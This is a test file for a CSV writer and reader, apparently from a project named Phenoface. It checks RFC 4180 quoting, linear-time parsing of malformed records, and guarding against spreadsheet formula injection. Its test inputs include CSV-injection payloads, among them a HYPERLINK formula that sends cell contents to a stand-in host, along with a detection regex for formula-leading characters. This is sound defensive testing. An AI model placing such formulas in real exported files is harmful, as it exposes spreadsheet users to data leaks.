/**
 * CSV in and out: the reader's records, lines and malformed records (once each, in linear time),
 * and every CSV Phenoface writes (predictions.csv, synth's manifest.csv, the demo's study manifest)
 * read back with csv-parse: RFC 4180 quoting holds commas, quotes and line breaks, text a
 * spreadsheet would run as a formula is guarded, and the manifests still load as what was written.
 */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULTS } from '../../../src/config.ts';
import { EmbeddingCache } from '../../../src/data/cache.ts';
import { csvCell, csvRow, formatCsv, readCsvRecords, stripFormulaGuard, type CsvRecord } from '../../../src/data/csv.ts';
import { loadDataset } from '../../../src/data/manifest.ts';
import { studyManifestCsv } from '../../../src/workflows/demo/demo.ts';
import { cacheVersion, regionFeaturesVersion } from '../../../src/pipeline/pipeline.ts';
import { runStudy } from '../../../src/workflows/study/study.ts';
import { secondEmbedding } from '../../cli/study-fixture.ts';
import { readSynthInput, synthesize } from '../../../src/workflows/synth/index.ts';
import type { Face } from '../../../src/types.ts';
import { fakeDetect, firstFace, writeFaceJpeg } from '../synth/fixtures.ts';
import { tempDir } from './fixtures.ts';

/** Text a spreadsheet would run, with a comma, a quote and line breaks among the others. */
const HOSTILE = ['=HYPERLINK("http://x.test/?"&A1,"open")', '+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=2+2', 'a,b "c"', 'line\nbreak', "'=already guarded", "'plain quote", '-0.5'];
/** What a spreadsheet would run: a cell starting with one of these. */
const FORMULA_START = /^[=+\-@\t\r]/;

let tmp: { dir: string; cleanup: () => void };
beforeAll(() => {
  tmp = tempDir();
});
afterAll(() => tmp.cleanup());

/** The records of `text` as [line, fields or error] pairs. */
const records = (text: string, delimiter?: string) => [...readCsvRecords(text, delimiter)].map((r: CsvRecord) => ('error' in r ? [r.line, r.error] : [r.line, r.fields]));

describe('csvCell, csvRow and formatCsv', () => {
  it('quote commas, quotes and line breaks (RFC 4180) and guard formula text with a leading quote (OWASP)', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b "c"')).toBe('"a,b ""c"""');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell('=HYPERLINK("http://x.test/")')).toBe('"\'=HYPERLINK(""http://x.test/"")"');
    for (const s of ['+1', '-2+3', '@SUM(A1)', '\tx', '\rx', '\0x']) expect(csvCell(s)).toBe(`"'${s}"`);
    // Text that already starts with the guard gets one more, so that removing one gives it back.
    expect(csvCell("'=x")).toBe(`"''=x"`);
    expect(csvCell("'plain")).toBe("'plain");
  });

  it('writes numbers as numbers: -0.5 stays a negative number, while the text "-0.5" is guarded', () => {
    expect(csvRow([-0.5, 0, 3, 1e-7, true, null, undefined, '-0.5'])).toBe(`-0.5,0,3,1e-7,true,,,"'-0.5"`);
  });

  it('formats a file that csv-parse reads back to the guarded values, and stripFormulaGuard to the originals', () => {
    const text = formatCsv(['id', 'score'], HOSTILE.map((s, i) => [s, 0.5 - i / 2]));
    expect(text.endsWith('\n')).toBe(true);
    const back = parse(text, { columns: true }) as { id: string; score: string }[];
    expect(back.map((r) => r.id)).toEqual(HOSTILE.map((s) => (/^'*[=+\-@\t\r]/.test(s) ? `'${s}` : s)));
    expect(back.map((r) => stripFormulaGuard(r.id))).toEqual(HOSTILE);
    expect(back.map((r) => Number(r.score))).toEqual(HOSTILE.map((_, i) => 0.5 - i / 2));
    for (const r of back) expect(r.id).not.toMatch(FORMULA_START);
    // Phenoface's own reader gives the same fields.
    expect([...readCsvRecords(text)].slice(1).map((r) => ('fields' in r ? r.fields[0] : r.error))).toEqual(back.map((r) => r.id));
  });

  it('leaves cells alone that never needed the guard', () => {
    for (const s of ["'", "''", "'x", "x'=", 'a=b', '']) expect(stripFormulaGuard(s)).toBe(s);
    expect(stripFormulaGuard("'-1")).toBe('-1');
    expect(stripFormulaGuard("''@x")).toBe("'@x");
  });
});

describe('readCsvRecords', () => {
  it('reads quoted fields with delimiters, quotes and line breaks, and the line each record starts on', () => {
    expect(records('a,b\n"x, y","say ""hi"""\n\n"multi\nline",z\nlast,""')).toEqual([
      [1, ['a', 'b']],
      [2, ['x, y', 'say "hi"']],
      [4, ['multi\nline', 'z']],
      [6, ['last', '']],
    ]);
    expect(records('a;b\n1;"2;3"', ';')).toEqual([[1, ['a', 'b']], [2, ['1', '2;3']]]);
    expect(records('a\tb\n1\t2\n', '\t')).toEqual([[1, ['a', 'b']], [2, ['1', '2']]]);
    expect(records(',\n,,x\n')).toEqual([[1, ['', '']], [2, ['', '', 'x']]]);
  });

  it('reports each malformed record once, at the line it starts on, and reads on from the next line', () => {
    const text = ['h1,h2', 'a,b"c', 'd,e', '"f"g,h', 'i,j', 'k,"closed too late', 'l,m', '"n', 'o,p', 'q"r,s', 't,"never closed', 'u,v'].join('\n');
    const got = records(text);
    expect(got.map(([line, x]) => [line, typeof x === 'string' ? x.split(':')[0] : x])).toEqual([
      [1, ['h1', 'h2']],
      [2, 'Invalid Opening Quote'],
      [3, ['d', 'e']],
      [4, 'Invalid Closing Quote'],
      [5, ['i', 'j']],
      // The quote opened on line 6 is closed on line 8 and followed by "n": found there, reported at 6.
      [6, 'Invalid Closing Quote'],
      [7, ['l', 'm']],
      [8, 'Invalid Closing Quote'],
      [9, ['o', 'p']],
      [10, 'Invalid Opening Quote'],
      [11, 'Quote Not Closed'],
      [12, ['u', 'v']],
    ]);
    expect(got[5][1]).toMatch(/\(found on line 8, inside a quoted value that starts on this line\)$/);
    expect(got[7][1]).toMatch(/\(found on line 10, /);
  });

  it('reads each character of the worst inputs a bounded number of times, however many records follow', () => {
    // Broken quotes of every kind on every other line, each opening a quote that a later line closes.
    const patterns = ['a,"b', '"a', 'a"b', '"a"b', 'x,"y""', '"a""'];
    const text = (pattern: string, n: number) => Array.from({ length: n }, (_, i) => (i % 2 ? `${i},ok` : pattern)).join('\n');
    for (const pattern of patterns) {
      const small = charactersRead(text(pattern, 10_000));
      const large = charactersRead(text(pattern, 40_000));
      // Linear is 4x; reading the rest of the text again per broken record would be 16x or more.
      expect(large.reads / small.reads, pattern).toBeLessThan(4.5);
      expect(large.reads / large.length, pattern).toBeLessThan(8); // scanned, sliced, and scanned again from outside the quote
    }
  });
});

/**
 * How many characters {@link readCsvRecords} reads to get through `text`: every `charCodeAt`, and
 * the span each `indexOf` or `slice` covers. A count, not a time, so the linear-time claim is
 * checked the same on a busy machine as on a quiet one (`bench:manifest` times it).
 */
function charactersRead(text: string): { reads: number; length: number } {
  let reads = 0;
  const counting = {
    length: text.length,
    charCodeAt: (i: number) => { reads++; return text.charCodeAt(i); },
    indexOf: (search: string, from: number) => {
      const at = text.indexOf(search, from);
      reads += (at === -1 ? text.length : at + 1) - from;
      return at;
    },
    slice: (from: number, to?: number) => { reads += (to ?? text.length) - from; return text.slice(from, to); },
  };
  const view = new Proxy(counting, { get: (t, key) => (typeof key === 'string' && /^\d+$/.test(key) ? text[Number(key)] : Reflect.get(t, key)) });
  let records = 0;
  for (const rec of readCsvRecords(view as unknown as string)) records += rec.line > 0 ? 1 : 0;
  expect(records).toBeGreaterThan(0);
  return { reads, length: text.length };
}

/** An embedding with a class signal, for a study that finds every photo in the cache. */
function embedding(seed: number, positive: boolean): Float32Array {
  const v = Float32Array.from({ length: 192 }, (_, i) => Math.sin(seed * 31 + i * 7) * 0.5 + (positive && i < 8 ? 1.5 : 0));
  const norm = Math.hypot(...v);
  return v.map((x) => x / norm);
}

const FACE: Face = { box: { x: 1, y: 1, width: 6, height: 6 }, score: 0.99, landmarks5: [[2, 3], [5, 3], [3.5, 4.5], [2.5, 6], [4.5, 6]], view: 'frontal' };

/** Write tiny distinct PNGs at `rels` under `root` and put an embedding for each in the cache `cacheFile`. */
async function cachedPhotos(root: string, rels: { rel: string; positive: boolean }[], cacheFile: string): Promise<void> {
  const cache = EmbeddingCache.open(cacheFile);
  try {
    for (const [i, { rel, positive }] of rels.entries()) {
      const abs = path.join(root, rel);
      mkdirSync(path.dirname(abs), { recursive: true });
      writeFileSync(abs, await sharp({ create: { width: 8, height: 8, channels: 3, background: { r: i * 9, g: 255 - i * 9, b: 40 } } }).png().toBuffer());
      cache.put({ sha256: await cache.contentHash(abs), backbone: DEFAULTS.embed.backbone, pipelineVersion: cacheVersion(DEFAULTS.embed.backbone) }, {
        face: FACE, embedding: embedding(i, positive),
        // The study's default `auto` also reads the region-pooled maps: here without signal.
        regionMaps: { version: regionFeaturesVersion(DEFAULTS.embed.backbone), data: Float32Array.from({ length: 8 * 192 }, (_, k) => Math.cos(i * 13 + k)) },
        secondEmbedding: secondEmbedding(i, 0),
      });
    }
  } finally {
    cache.close();
  }
}

const QUICK = { folds: 2, repeats: 1, bootstrap: 0, permutations: 0, seed: 1, explain: false as const, quiet: true, log: { err: () => {}, isTTY: false } };

/** predictions.csv of `out`, read with csv-parse. */
function readPredictions(out: string): Record<string, string>[] {
  return parse(readFileSync(path.join(out, 'predictions.csv'), 'utf8'), { columns: true }) as Record<string, string>[];
}

/** The checks every predictions.csv must pass: no cell a spreadsheet would run; numbers stay numbers. */
function expectSafePredictions(rows: Record<string, string>[]): void {
  for (const r of rows) {
    for (const col of ['path', 'subject', 'label', 'view']) expect(r[col]).not.toMatch(FORMULA_START);
    expect(Number(r.probability)).toBeGreaterThanOrEqual(0);
    expect(Number(r.probability)).toBeLessThanOrEqual(1);
    expect(Number.isInteger(Number(r.fold))).toBe(true);
  }
}

describe('every CSV Phenoface writes', () => {
  it('predictions.csv of a study whose manifest has hostile subject ids and file names', async () => {
    const root = path.join(tmp.dir, 'study-manifest');
    const cache = path.join(tmp.dir, 'study-manifest.sqlite');
    const subjects = ['=HYPERLINK("http://x.test/?"&A1,"open")', '+1', '-2+3', '@SUM(A1:A9)', 'a,b "c"', 'line\nbreak', "'=already guarded", '-0.5'];
    const names = ['=1+1.png', '+cmd.png', '-2+3.png', '@SUM(A1).png', 'a,b.png', 'q"uote.png', 'new\nline.png', "'=x.png"];
    const photos = subjects.flatMap((subject, s) => [0, 1].map((p) => ({ subject, positive: s < 4, rel: p === 0 ? names[s] : `img/${s}.png` })));
    await cachedPhotos(root, photos, cache);
    // The manifest goes through the same writer (guarded), and must load as what was written.
    const manifest = path.join(root, 'manifest.csv');
    writeFileSync(manifest, formatCsv(['path', 'subject', 'label'], photos.map((p) => [p.rel, p.subject, p.positive ? 'vcfs' : 'control'])));
    const ds = await loadDataset(manifest, {});
    expect(ds.items.map((i) => [i.path, i.subject])).toEqual(photos.map((p) => [p.rel, p.subject]));

    const out = path.join(tmp.dir, 'study-manifest-out');
    await runStudy({ source: manifest, out, cache, ...QUICK });
    const rows = readPredictions(out);
    expect(rows).toHaveLength(photos.length);
    expectSafePredictions(rows);
    const want = new Map(photos.map((p) => [p.rel, p.subject]));
    for (const r of rows) expect(want.get(stripFormulaGuard(r.path))).toBe(stripFormulaGuard(r.subject));
    expect(new Set(rows.map((r) => r.subject))).toEqual(new Set(subjects.map(csvValue)));
    expect(new Set(rows.map((r) => r.path))).toEqual(new Set(photos.map((p) => csvValue(p.rel))));
  }, 60_000);

  it('predictions.csv of a folder data set whose subject folders start with tab, CR, =, +, - and @', async () => {
    const root = path.join(tmp.dir, 'study-folder');
    const cache = path.join(tmp.dir, 'study-folder.sqlite');
    const vcfs = ['\t=1+1', '\r=2+2', '=3', '+4'];
    const control = ['-5', '@6', 'x,y', 'q"z'];
    const photos = [...vcfs.map((s) => ({ s, label: 'vcfs' })), ...control.map((s) => ({ s, label: 'control' }))].flatMap(({ s, label }) => ['a.png', '-b.png'].map((f) => ({ rel: `${label}/${s}/${f}`, positive: label === 'vcfs', subject: s })));
    await cachedPhotos(root, photos, cache);
    const out = path.join(tmp.dir, 'study-folder-out');
    await runStudy({ source: root, out, cache, ...QUICK });
    const rows = readPredictions(out);
    expect(rows).toHaveLength(photos.length);
    expectSafePredictions(rows);
    expect(new Set(rows.map((r) => r.subject))).toEqual(new Set([...vcfs, ...control].map(csvValue)));
    expect(new Set(rows.map((r) => r.path))).toEqual(new Set(photos.map((p) => p.rel)));
  }, 60_000);

  it("synth's manifest.csv and the demo's study manifest: guarded in a spreadsheet, loaded back as written", async () => {
    const input = path.join(tmp.dir, 'synth-in');
    const subjects = ['=HYPERLINK("x.test")', '+1', '-2+3', '@SUM(A1)', 'a,b "c"', '\tTAB'];
    for (const [i, s] of subjects.entries()) await writeFaceJpeg(path.join(input, s, 'a.jpg'), i % 2);
    const rows = (await readSynthInput(input)).rows;
    const r = await synthesize({ rows, outDir: path.join(tmp.dir, 'synth-out'), regions: ['perioral'], strength: 1, seed: 7, detect: fakeDetect, chooseFace: firstFace });
    expect(r.truth.photos).toHaveLength(subjects.length);

    const written = parse(readFileSync(r.manifestPath, 'utf8'), { columns: true }) as Record<string, string>[];
    expect(written.map((w) => w.subject).sort()).toEqual(subjects.map(csvValue).sort());
    for (const w of written) for (const v of Object.values(w)) expect(v).not.toMatch(FORMULA_START);
    // Phenoface reads its manifest back as the subjects it was given (trimmed, as manifests are).
    const ds = await loadDataset(r.manifestPath, {});
    expect(ds.items.map((i) => i.subject).sort()).toEqual(subjects.map((s) => s.trim()).sort());
    expect(ds.items.map((i) => i.path).sort()).toEqual(r.truth.photos.map((p) => p.path).sort());

    const heldOut = [r.truth.photos[0].subject];
    const demoManifest = path.join(path.dirname(r.manifestPath), 'study-manifest.csv');
    writeFileSync(demoManifest, studyManifestCsv(r.truth.photos, heldOut));
    const demoRows = parse(readFileSync(demoManifest, 'utf8'), { columns: true }) as Record<string, string>[];
    const kept = r.truth.photos.filter((p) => p.subject !== heldOut[0]);
    expect(demoRows.map((w) => w.subject)).toEqual(kept.map((p) => csvValue(p.subject)));
    for (const w of demoRows) for (const v of Object.values(w)) expect(v).not.toMatch(FORMULA_START);
    const demoDs = await loadDataset(demoManifest, {});
    expect(demoDs.items.map((i) => [i.path, i.subject])).toEqual(kept.map((p) => [p.path, p.subject.trim()]));
  }, 60_000);
});

/** The value csv-parse reads from a cell Phenoface wrote for `s`: the guard added to formula text. */
function csvValue(s: string): string {
  return /^'*[=+\-@\t\r\0]/.test(s) ? `'${s}` : s;
}
